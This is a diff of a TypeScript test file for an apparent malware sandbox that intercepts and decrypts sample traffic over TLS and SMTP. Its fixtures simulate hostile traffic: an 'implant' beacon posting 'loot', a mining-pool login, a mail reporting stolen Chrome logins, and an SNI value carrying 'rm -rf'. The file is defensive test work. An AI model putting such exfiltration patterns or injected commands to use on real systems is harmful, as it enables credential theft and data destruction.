@@ -3,7 +3,7 @@
 // dns.test.ts and end to end in test/analyze.test.ts).
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { createHash, createPrivateKey, X509Certificate } from 'node:crypto';
+import { createHash } from 'node:crypto';
 import { execFile } from 'node:child_process';
 import { mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs';
 import { createConnection, createServer, type Server, type Socket } from 'node:net';
@@ -11,7 +11,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { connect as tlsConnect } from 'node:tls';
 import { catchSession, ConntrackTable, DatagramCatcher, parseClientHello, parseHttpHead, SESSION_MAX, SESSION_READ, SessionLog } from './sessions.js';
-import { selfSignedCertificate, sinkholeTlsContext } from './tls.js';
+import { sandboxCa } from './tls.js';
 import type { ServerFirst } from './greetings.js';
 
 /** The first bytes a real client sends to a listener on loopback (which never answers). */
@@ -163,38 +163,28 @@ test('ConntrackTable: the original address and port of the connection whose repl
   }
 });
 
-test('the catcher\'s certificate: a self-signed X.509 v3 for localhost, made with Node\'s crypto, valid now, signed by its own key', () => {
-  const now = new Date();
-  const { cert, key } = selfSignedCertificate('localhost', now);
-  const x = new X509Certificate(cert);
-  assert.equal(x.subject, 'CN=localhost');
-  assert.equal(x.issuer, 'CN=localhost');
-  assert.ok(x.verify(x.publicKey), 'signed by its own key');
-  assert.ok(x.checkPrivateKey(createPrivateKey(key)), 'the key is the certificate\'s');
-  assert.ok(new Date(x.validFrom) < now && now < new Date(x.validTo));
-  assert.notEqual(new X509Certificate(selfSignedCertificate().cert).serialNumber, x.serialNumber, 'a new serial each time');
-});
-
 /** A TLS client of the catcher: sends `data` once the handshake is done, then returns what came back (or the error). */
-function tlsExchange(port: number, servername: string, data: string, verify: boolean): Promise<string> {
+function tlsExchange(port: number, servername: string, data: string, verify: boolean, ca?: string): Promise<string> {
   return new Promise((resolve) => {
     let got = '';
-    const c = tlsConnect({ host: '127.0.0.1', port, servername, rejectUnauthorized: verify }, () => c.write(data));
+    const c = tlsConnect({ host: '127.0.0.1', port, servername, rejectUnauthorized: verify, ...(ca ? { ca } : {}) }, () => c.write(data));
     c.on('data', (d: Buffer) => { got += d.toString('latin1'); });
     c.on('error', (e: NodeJS.ErrnoException) => resolve(`error ${e.code ?? e.message}`));
     c.on('close', () => resolve(got));
   });
 }
 
-test('catchSession with TLS: a sample that does not check certificates completes the handshake and its HTTPS request is read in the clear and answered 200; one that checks them refuses ours and is logged with its server name only; a hello followed by garbage, or one past the read cap, is logged and never decrypted', async () => {
+test('catchSession with TLS: a sample that trusts the sandbox\'s authority (and checks the name), or checks nothing, completes the handshake and its HTTPS request is read in the clear and answered 200; one that trusts other CAs only refuses ours and is logged with its server name only; a hello followed by garbage, or one past the read cap, is logged and never decrypted', async () => {
   const log = new SessionLog();
-  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.9', port: 443, domain: 'secure.example.test' }), { tls: sinkholeTlsContext }));
+  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.9', port: 443, domain: 'secure.example.test' }), { tls: sandboxCa }));
   await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
   const { port } = server.address() as { port: number };
   try {
     const request = 'POST /api/v2/beacon?id=devbox HTTP/1.1\r\nHost: secure.example.test\r\nUser-Agent: implant/2.1\r\nContent-Length: 4\r\n\r\nloot';
-    assert.match(await tlsExchange(port, 'secure.example.test', request, false), /^HTTP\/1\.1 200 OK\r\n/);
-    assert.match(await tlsExchange(port, 'checked.example.test', 'GET / HTTP/1.1\r\n\r\n', true), /^error (DEPTH_ZERO_SELF_SIGNED_CERT|SELF_SIGNED_CERT_IN_CHAIN)/);
+    // a client that trusts the sandbox's authority (as the container does) and checks the name
+    assert.match(await tlsExchange(port, 'secure.example.test', request, true, sandboxCa().certPem), /^HTTP\/1\.1 200 OK\r\n/);
+    // one that trusts only its own CAs (this host's, which never hold the sandbox's authority)
+    assert.match(await tlsExchange(port, 'checked.example.test', 'GET / HTTP/1.1\r\n\r\n', true), /^error UNABLE_TO_VERIFY_LEAF_SIGNATURE/);
     const stratum = '{"id":1,"method":"login","params":{"login":"4AbC","pass":"x"}}\n';
     const c = tlsConnect({ host: '127.0.0.1', port, servername: 'pool.example.test', rejectUnauthorized: false }, () => c.end(stratum));
     c.on('error', () => undefined);
@@ -215,6 +205,34 @@ test('catchSession with TLS: a sample that does not check certificates completes
     assert.match(s[0]?.preview ?? '', /^\\x16\\x03/, 'the preview is still the bytes on the wire (the ClientHello)');
     assert.equal(s[1]?.http, undefined);
     assert.deepEqual(s[2]?.decrypted, { bytes: stratum.length, preview: '{"id":1,"method":"login","params":{"login":"4AbC","pass":"x"}}\\n' });
+  } finally {
+    server.close();
+  }
+});
+
+/** The subject alternative names of the certificate the catcher shows a client that sends `servername` as SNI (none: no SNI). */
+function presented(port: number, servername?: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const c = tlsConnect({ host: '127.0.0.1', port, rejectUnauthorized: false, ...(servername === undefined ? {} : { servername }) }, () => {
+      resolve(c.getPeerCertificate().subjectaltname ?? '');
+      c.destroy();
+    });
+    c.on('error', reject);
+  });
+}
+
+test('catchSession with TLS: the certificate names what the client asked for, its SNI, else the name the sinkhole gave the address, and the address it connected to; an SNI that is no host name gets the address only', async () => {
+  const log = new SessionLog();
+  let domain: string | undefined = 'panel.example.test';
+  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.9', port: 443, ...(domain ? { domain } : {}) }), { tls: sandboxCa }));
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  const { port } = server.address() as { port: number };
+  try {
+    assert.equal(await presented(port, 'CDN.Example.test'), 'DNS:cdn.example.test, IP Address:198.18.0.9');
+    assert.equal(await presented(port), 'DNS:panel.example.test, IP Address:198.18.0.9', 'no SNI: the name the address was given');
+    domain = undefined;
+    assert.equal(await presented(port), 'IP Address:198.18.0.9', 'a hard-coded address: the address alone');
+    assert.equal(await presented(port, 'bad name;rm -rf'), 'IP Address:198.18.0.9');
   } finally {
     server.close();
   }
@@ -289,9 +307,9 @@ function mailClient(port: number, script: string, connect = `smtplib.SMTP('127.0
   });
 }
 
-test('catchSession on the SMTP listener with a certificate: Python smtplib upgrades with STARTTLS when it does not check certificates, logs in and sends, all read inside the TLS; one that checks them is refused and logged with what it said in the clear; AUTH PLAIN in the clear is kept too', async () => {
+test('catchSession on the SMTP listener with a certificate: Python smtplib upgrades with STARTTLS when it does not check certificates, or trusts the sandbox\'s authority, logs in and sends, all read inside the TLS; one that trusts other CAs only is refused and logged with what it said in the clear; AUTH PLAIN in the clear is kept too', async () => {
   const log = new SessionLog();
-  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.7', port: 587, domain: 'smtp.example.test' }), { greet: 'smtp', tls: sinkholeTlsContext }));
+  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.7', port: 587, domain: 'smtp.example.test' }), { greet: 'smtp', tls: sandboxCa }));
   await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
   const { port } = server.address() as { port: number };
   const send = "s.sendmail('pc@example.test', ['ops@example.test'], 'Subject: PW_devbox\\r\\n\\r\\nchrome logins attached\\r\\n')\ns.quit()";
@@ -303,7 +321,11 @@ test('catchSession on the SMTP listener with a certificate: Python smtplib upgra
     assert.match(verified.said, /CERTIFICATE_VERIFY_FAILED/);
     const clear = await mailClient(port, `s.login('bot', 'pw')\n${send}`);
     assert.deepEqual(clear, { code: 0, said: '' });
-    const [tls, refused, plain] = log.log().sessions;
+    // a client that checks certificates against CAs holding the sandbox's authority (as in the container) and checks the host name
+    const trusting = await mailClient(port, `s.starttls(context=ssl.create_default_context(cadata=${JSON.stringify(sandboxCa().certPem)}))\ns.login('u', 'p')\ns.quit()`,
+      `smtplib.SMTP('localhost', ${port}, local_hostname='devbox', timeout=10)`);
+    assert.deepEqual(trusting, { code: 0, said: '' });
+    const [tls, refused, plain, trusted] = log.log().sessions;
     assert.equal(tls?.protocol, 'smtp');
     assert.deepEqual(tls?.smtp, {
       helo: 'devbox', from: 'pc@example.test', to: ['ops@example.test'], recipients: 1, subject: 'PW_devbox',
@@ -316,6 +338,7 @@ test('catchSession on the SMTP listener with a certificate: Python smtplib upgra
     assert.equal(refused?.decrypted, undefined);
     assert.deepEqual(plain?.smtp?.auth, { mechanism: 'PLAIN', user: 'bot', password: 'pw' });
     assert.equal(plain?.smtp?.starttls, undefined);
+    assert.deepEqual(trusted?.smtp && [trusted.smtp.starttls, trusted.smtp.auth?.user], [true, 'u']);
   } finally {
     server.close();
   }
@@ -324,7 +347,7 @@ test('catchSession on the SMTP listener with a certificate: Python smtplib upgra
 test('catchSession on an implicit-TLS port (SMTPS, POP3S): the ClientHello is answered first and the greeting comes inside the TLS; smtplib.SMTP_SSL logs in and sends, poplib.POP3_SSL logs in (the account kept), a client that checks certificates is refused and logged with its server name (smtplib sends the host it was given as SNI)', async () => {
   const log = new SessionLog();
   let greet: ServerFirst = 'smtp';
-  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.7', port: null, domain: 'mail.example.test' }), { greet, tls: sinkholeTlsContext, implicitTls: true }));
+  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.7', port: null, domain: 'mail.example.test' }), { greet, tls: sandboxCa, implicitTls: true }));
   await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
   const { port } = server.address() as { port: number };
   const unverified = 'context=ssl._create_unverified_context()';
@@ -367,7 +390,7 @@ test('catchSession on the IMAP listener: Python imaplib logs in, selects the emp
 
 test('catchSession reads an HTTP upload\'s body before it answers: curl\'s POST of a file (with Expect: 100-continue, and chunked) gets its 200 and the body\'s size, SHA-256 and first bytes are kept; over TLS too', async () => {
   const log = new SessionLog();
-  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.9', port: 80, domain: 'panel.example.test' }), { tls: sinkholeTlsContext }));
+  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.9', port: 80, domain: 'panel.example.test' }), { tls: sandboxCa }));
   await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
   const { port } = server.address() as { port: number };
   const dir = mkdtempSync(join(tmpdir(), 'sandtrace-upload-'));
